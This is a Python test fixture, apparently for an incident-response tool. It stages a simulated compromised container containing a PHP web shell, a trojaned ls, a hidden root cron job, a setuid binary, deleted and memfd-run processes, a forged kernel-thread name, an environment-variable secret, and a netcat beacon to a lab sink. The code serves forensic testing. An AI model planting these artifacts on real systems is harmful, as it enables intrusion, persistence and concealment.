"""The suspect of the incident, its sidecar and the sink it talks to; what each is told to do, and what that leaves."""

import hashlib
import os
import re
import time
from dataclasses import dataclass, field
from functools import cached_property
from pathlib import Path

from tests.lab import hostile
from tests.lab.counting import wait_until
from tests.lab.description import Attach, Network, Suspect
from tests.lab.engine import LabError
from tests.lab.hostile import quoted
from tests.lab.images import derived_image
from tests.lab.script import HEADER, READY
from tests.lab.suspects import Lab
from tests.lab.tools import find_tool, run, tool

SUSPECT, SIDECAR, SINK = "shop", "sidecar", "drop"
SINK_PORT = 4444
IMAGE = "irkit-lab/incident:1"
WEB, SCRATCH, MARKS = "/var/www", "/scratch", "/marks"
WAIT_SECONDS = 240

WEBSHELL = b"<?php system($_GET['c']); /* \xff\xfe */ ?>\n"
TROJAN = b'#!/bin/busybox sh\necho ls >> /marks/ran\nexec /bin/busybox ls "$@"\n'
CRON = b"* * * * * root /tmp/.font-unix/x\n"
SHM = b"staged for exfiltration\n"
SCRATCHED = b"kept in memory only\n"
UNLINKED = b"typed passwords: hunter2\n"
FORGED = "[kworker/u8:2-events_unbound]"
VARIABLE = "EXFIL_KEY"
SECRET = "AKIA-not-a-real-key-7f3a"
REMEMBERED = "never on disk: correct horse battery staple"
COMPLAINT = b"cannot reach upstream: only ever said to stderr\n"
SPARSE_MARK = b"hidden far out"
SPARSE_AT = 10
"""MiB from the end of the sparse file at which its one piece of data lies."""
OPAQUE = "/data"
"""A folder of the image that was removed and made anew: what was in it is gone."""
CAPABILITY = bytes.fromhex("0100000200200000000000000000000000000000")
ATTRIBUTE = b"attribute of the attacker's"
MARKED = ("ps", "sh", "cat", "lsof")
"""Programs of the container that leave a mark where somebody runs them; /bin/ls does too."""


@dataclass(frozen=True)
class Sizes:
    """How big the big things are: those of the issue, or small ones for every day's tests."""

    deleted_mb: int = 60
    sparse_mib: int = 20 * 1024
    small_files: int = 100_000


WHOLE = Sizes()
SMALL = Sizes(deleted_mb=8, sparse_mib=256, small_files=2000)

# The argument is obscured, so that what it says is in the memory of the process and nowhere else.
HOLD = """
my ($what, $file) = @ARGV;
if ($what eq 'forge') { $0 = $file; sleep 1000000 }
if ($what eq 'unlinked') {
  open(my $out, '>', $file) or die; $| = 1; select $out; $| = 1; print "%(unlinked)s"; unlink $file; sleep 1000000
}
if ($what eq 'memory') { our $kept = join '', map { chr(ord($_) ^ 1) } split //, $file; $0 = 'perl'; sleep 1000000 }
if ($what eq 'many') {
  mkdir "$file"; for my $n (1 .. $ARGV[2]) {
    my $folder = sprintf('%%s/%%03d', $file, $n / 1000); mkdir $folder;
    open(my $out, '>', "$folder/$n.txt") or die; print $out "small file $n\\n"; close $out
  }
}
if ($what eq 'memfd') {
  $^F = 255; my $name = 'kthread';
  my $fd = syscall(%(memfd)d, $name, 0); die if $fd < 0;
  open(my $out, '>&=', $fd) or die; open(my $in, '<', '/bin/busybox') or die; binmode $in; binmode $out;
  local $/; print $out scalar <$in>; print $out "%(memfd_mark)s"; close $in;
  select $out; $| = 1; select STDOUT;
  exec { "/proc/self/fd/$fd" } 'sleep', '7000002';
}
"""
MEMFD_MARK = "in no file system"
MEMFD_CALL = {"x86_64": 319, "aarch64": 279}


@dataclass
class Incident:
    """What was made. Digests are of what the items of the recall table must be."""

    lab: Lab
    sizes: Sizes
    pid: int = 0
    id: str = ""
    sidecar: str = ""
    volume: str = ""
    sink_address: str = ""
    deleted_sha256: str = ""
    digests: dict[str, str] = field(default_factory=dict)

    @property
    def root(self) -> Path:
        """The container's files, as the kernel shows them from outside."""
        return Path(f"/proc/{self.pid}/root")

    @property
    def unlinked_sha256(self) -> str:
        """Of the file that was deleted while a process has it open."""
        return digest(UNLINKED)

    @cached_property
    def memfd_sha256(self) -> str:
        """Of the program that was never in a file system."""
        return digest((self.root / "bin/busybox").read_bytes() + MEMFD_MARK.encode())


def digest(content: bytes) -> str:
    """SHA-256, in hexadecimal."""
    return hashlib.sha256(content).hexdigest()


def noted(path: Path) -> int:
    """When a file was changed last, in nanoseconds."""
    return path.lstat().st_mtime_ns


def make_incident(lab: Lab, sizes: Sizes) -> Incident:
    """Make it, wait until everything is in its place, and set what only the outside can set."""
    lab.network(Network("outside", subnet="10.99.7.0/24"))
    lab.sink(SINK, "outside", "10.99.7.9", SINK_PORT)
    image = _image(lab, sizes)
    incident = Incident(lab, sizes, sink_address="10.99.7.9")
    incident.volume = lab.name("webroot")
    incident.id = lab.make(
        Suspect(
            name=SUSPECT,
            networks=(Attach("outside"),),
            volumes={"webroot": WEB},
            tmpfs=(SCRATCH,),
            image=image,
            command=("/bin/busybox", "sh", "/app/incident.sh"),
        )
    )
    incident.sidecar = lab.make(Suspect(name=SIDECAR, image=image, command=("/bin/busybox", "sh", "/app/sidecar.sh")))
    for name in (SUSPECT, SIDECAR):
        _wait_ready(lab, name)
    if not wait_until(lambda: COMPLAINT in lab.engine.docker("logs", lab.name(SIDECAR)).stderr):
        raise LabError(f"{SIDECAR} does not complain")
    incident.pid = int(lab.engine.inspect(lab.name(SUSPECT))["State"]["Pid"])
    _set_from_outside(incident)
    incident.deleted_sha256 = _deleted_digest(incident)
    return incident


def _set_from_outside(incident: Incident) -> None:
    """What busybox has no program for."""
    os.setxattr(incident.root / "opt/with-capability", "security.capability", CAPABILITY)
    os.setxattr(incident.root / "opt/with-attribute", "user.note", ATTRIBUTE)


def _deleted_digest(incident: Incident) -> str:
    """Of the program that runs and has no file any more, as the kernel still has it."""
    namespace = Path(f"/proc/{incident.pid}/ns/pid").readlink()
    for place in Path("/proc").glob("[0-9]*"):
        try:
            if (place / "ns/pid").readlink() != namespace:
                continue
            if b"7000001" in (place / "cmdline").read_bytes() and "(deleted)" in str((place / "exe").readlink()):
                with (place / "exe").open("rb") as file:
                    return hashlib.file_digest(file, "sha256").hexdigest()
        except OSError:
            continue
    raise LabError("the program whose file was deleted does not run")


def _wait_ready(lab: Lab, name: str) -> None:
    end = time.monotonic() + WAIT_SECONDS
    while READY.encode() not in lab.engine.docker("top", lab.name(name), "-eo", "pid,args", check=False).stdout:
        if time.monotonic() > end or lab.engine.inspect(lab.name(name))["State"]["Status"] != "running":
            said = lab.engine.docker("logs", lab.name(name), check=False).stderr[-500:]
            raise LabError(f"{name} is not ready: {said!r}")
        time.sleep(0.1)


def _image(lab: Lab, sizes: Sizes) -> str:
    """busybox, perl (which every Debian has) with its libraries, and what the containers run."""
    perl = Path(find_tool("perl") or "/usr/bin/perl").resolve()
    told = run([tool("ldd"), str(perl)]).stdout.decode()
    files = {"usr/bin/perl": perl.read_bytes()}
    files |= {path.lstrip("/"): Path(path).read_bytes() for path in re.findall(r"(/\S+) \(0x", told)}
    hold = HOLD % {
        "unlinked": UNLINKED.decode().replace("\n", "\\n"),
        "memfd": MEMFD_CALL[os.uname().machine],
        "memfd_mark": MEMFD_MARK,
    }
    marker = b'#!/bin/busybox sh\necho %s >> /marks/ran\nexec /bin/busybox %s "$@"\n'
    files |= {f"app/marked/{name}": marker % (name.encode(), name.encode()) for name in MARKED}
    files |= {"app/marked/ls": TROJAN, "app/hold.pl": hold.encode(), "app/incident.sh": _script(sizes)}
    files |= {
        "app/sidecar.sh": f"{HEADER}printf '%s' {quoted(COMPLAINT[:-1])} >&2\necho >&2\n{READY} &\nwait\n".encode()
    }
    return derived_image(lab.engine, f"{IMAGE}-{sizes.small_files}", files, ["/bin/sh"])


_RENAMED = "until readlink /proc/$!/exe | grep -q perl && ! grep -q hold.pl /proc/$!/cmdline; do sleep 0.02; done"
"""Until what was begun last calls itself something else."""


def _script(sizes: Sizes) -> bytes:
    """All that the suspect does, ending in the state it is found in."""
    obscured = "".join(chr(ord(char) ^ 1) for char in REMEMBERED)
    lines = [
        HEADER,
        f"mkdir -p {MARKS} /opt /tmp/.font-unix /var/spool/cron/crontabs /srv; chmod 777 {MARKS}",
        # Files.
        f"mkdir -p {WEB}/img && printf '%s' {_word(WEBSHELL)} > {WEB}/img/.thumb.php && echo >> {WEB}/img/.thumb.php",
        f"printf '%s' {_word(CRON)} > /var/spool/cron/crontabs/.root && echo >> /var/spool/cron/crontabs/.root",
        f"printf '%s' {_word(SHM)} > /dev/shm/.x && echo >> /dev/shm/.x",
        f"printf '%s' {_word(SCRATCHED)} > {SCRATCH}/notes && echo >> {SCRATCH}/notes",
        "rm /app/delete-me.txt",
        f"rm -r {OPAQUE} && mkdir {OPAQUE} && echo new > {OPAQUE}/new.txt",
        *hostile.lines(sparse=False),
        "ln -s / /srv/everything",
        "cp /bin/busybox /opt/.suid && chmod 4755 /opt/.suid",
        "cp /bin/busybox /opt/with-capability; echo x > /opt/with-attribute",
        f"truncate -s {sizes.sparse_mib}M /opt/sparse",
        f"printf '%s' {_word(SPARSE_MARK)} | dd of=/opt/sparse bs=1M seek={sizes.sparse_mib - SPARSE_AT}"
        " conv=notrunc 2>/dev/null",
        f"/usr/bin/perl /app/hold.pl many /srv/many {sizes.small_files}",
        # Processes.
        f"cp /bin/busybox /tmp/.cache && dd if=/dev/urandom bs=1M count={sizes.deleted_mb} >> /tmp/.cache 2>/dev/null",
        "(exec -a sleep /tmp/.cache 7000001) </dev/null >/dev/null 2>&1 &",
        'until [ "$(readlink /proc/$!/exe)" = /tmp/.cache ]; do sleep 0.02; done; rm /tmp/.cache',
        "/usr/bin/perl /app/hold.pl memfd & ",
        "until readlink /proc/$!/exe | grep -q memfd; do sleep 0.02; done",
        f"/usr/bin/perl /app/hold.pl forge '{FORGED}' &",
        _RENAMED,
        "/usr/bin/perl /app/hold.pl unlinked /tmp/.typed &",
        "until ls -l /proc/$!/fd | grep -q 'typed (deleted)'; do sleep 0.02; done",
        f"/usr/bin/perl /app/hold.pl memory '{obscured}' &",
        _RENAMED,
        f"{VARIABLE}={SECRET} sleep 7000003 &",
        "until grep -q 7000003 /proc/$!/cmdline; do sleep 0.02; done",
        f"(while :; do echo beat; sleep 1; done | nc 10.99.7.9 {SINK_PORT}) </dev/null >/dev/null 2>&1 &",
        f"until grep -q ':{SINK_PORT:04X} 01 ' /proc/net/tcp; do sleep 0.05; done",
        # Its programs, last: from here on each leaves a mark.
        *(f"rm -f /bin/{name}; cp /app/marked/{name} /bin/{name}; chmod 755 /bin/{name}" for name in ("ls", *MARKED)),
        f"{READY} &\nwait",
    ]
    return ("\n".join(lines) + "\n").encode("ascii")


def _word(content: bytes) -> str:
    """A shell word for the content without its last newline."""
    return quoted(content.removesuffix(b"\n"))
